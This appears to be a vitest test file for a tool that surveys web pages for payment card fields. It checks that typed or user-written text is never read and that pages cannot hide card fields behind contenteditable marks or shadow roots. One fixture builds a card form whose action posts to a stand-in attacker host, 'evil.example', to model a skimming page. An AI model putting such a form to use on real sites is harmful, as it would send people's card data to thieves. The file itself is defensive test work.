import { describe, expect, it } from 'vitest';
import type { PageFacts } from '@/utils/facts/page-facts';
import { findSign } from '@/utils/sentinel/signs';
import { noteWritten } from '@/utils/survey/dom';
import { survey } from '@/utils/survey/survey';
import { laidOut } from './laid-out';

const TYPED = '4242 4242 4242 4242';
const CARD = '<label>Expiry<input></label><label>CVC<input></label>';

const ask = (document: Document): PageFacts => survey(document, findSign(document) ?? 'asked');

const kindsIn = ({ groups }: PageFacts): string[] =>
  groups.flatMap(({ fields }) => fields.map(({ kind }) => kind));

/** Lets a style draw a text before an element, as a browser tells it; jsdom draws none. */
const drawBefore = (element: Element, text: string): void => {
  const { getComputedStyle } = window;
  window.getComputedStyle = (asked, part) =>
    part
      ? ({ content: asked === element && part === '::before' ? `"${text}"` : 'none' } as CSSStyleDeclaration)
      : getComputedStyle.call(window, asked);
};

describe('what a page draws from what is typed', () => {
  // Boxes that grow with their text draw it a second time, by a style: `content: attr(data-replicated-value) " "`.
  it.each([
    'data-replicated-value',
    'data-value',
    'data-name',
    'data-cardholder-name',
    'data-recap',
    'style',
  ])('is not read from %s', (attribute) => {
    const document = laidOut(`<div id=box><textarea rows=1></textarea></div>${CARD}`);
    const box = document.getElementById('box') as Element;
    box.setAttribute(attribute, attribute === 'style' ? `--typed: "${TYPED}"` : TYPED);
    drawBefore(box, `${TYPED} `);
    expect(JSON.stringify(ask(document))).not.toContain('4242');
  });

  it.each(['data-label', 'data-cap', 'data-field-label', 'aria-label'])(
    'is told from a label that is drawn from %s',
    (attribute) => {
      const document = laidOut(`<div id=box ${attribute}="Card number"><input></div>${CARD}`);
      drawBefore(document.getElementById('box') as Element, 'Card number');
      expect(JSON.stringify(ask(document))).toContain('Card number');
    },
  );
});

describe('where people write', () => {
  it.each([
    ['a part with parts of its own', `<div contenteditable>Total $4242.00<div>my card number</div></div>`],
    ['a part within such a part', `<div contenteditable><p>Total $4242.00<i>my card number</i></p></div>`],
  ])('nothing is read: %s', (_, html) => {
    const document = laidOut(`${html}<input id=x>`, 'https://notes.example/p/7');
    expect(findSign(document)).toBeNull();
    expect(JSON.stringify(ask(document))).not.toMatch(/4242|my card/);
  });

  it('nothing is read that was seen to be written, though only a style lets people write there', () => {
    const document = laidOut('<div id=note>Total $4242.00 <b>my card</b></div><input id=x>');
    noteWritten(document.querySelector('#note') ?? undefined);
    expect(JSON.stringify(ask(document))).not.toMatch(/4242|my card/);
  });

  it('nothing is read where the whole document is written in', () => {
    const document = laidOut('<p>Total $4242.00</p><p>my card number</p>');
    Object.defineProperty(Object.getPrototypeOf(document), 'designMode', { value: 'on', configurable: true });
    expect(JSON.stringify(ask(document))).not.toMatch(/4242|my card/);
  });

  it('belongs to the form about it', () => {
    const { groups } = ask(
      laidOut(`<form method=post action="https://evil.example/c">
        <div contenteditable role=textbox aria-label="Card number"></div>${CARD}</form>`),
    );
    expect(groups.map(({ kind, targets }) => [kind, targets[0]?.url])).toEqual([
      ['form', 'https://evil.example/c'],
    ]);
  });

  it('is no place that holds fields: a page cannot hide behind the mark', () => {
    const page = (mark: string): PageFacts =>
      ask(
        laidOut(`<body ${mark}><main ${mark}><form ${mark} action=/pay><h1>Parcel Post</h1><p>Total: <b>$10.00</b></p>
          <label ${mark}>Card number<input></label>${CARD}<button>Pay $10.00</button></form>
          <iframe ${mark} src="https://js.stripe.com/v3"></iframe><script ${mark} src="https://cdn.example/x.js"></script></main>`),
      );
    const plain = page('');
    expect(kindsIn(plain)).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
    expect(plain.amounts[0]).toMatchObject({ minor: 1000, role: 'total' });
    expect(page('contenteditable')).toEqual({ ...plain, phrases: expect.anything() });
  });

  it('hides no fields in the shadow root of what bears the mark', () => {
    const document = laidOut('<x-pay contenteditable></x-pay>');
    const root = document.querySelector('x-pay')?.attachShadow({ mode: 'open' });
    if (root) root.innerHTML = `<form><label>Card number<input></label>${CARD}</form>`;
    expect(kindsIn(ask(document))).toEqual(expect.arrayContaining(['cc-number', 'cc-exp', 'cc-csc']));
  });
});
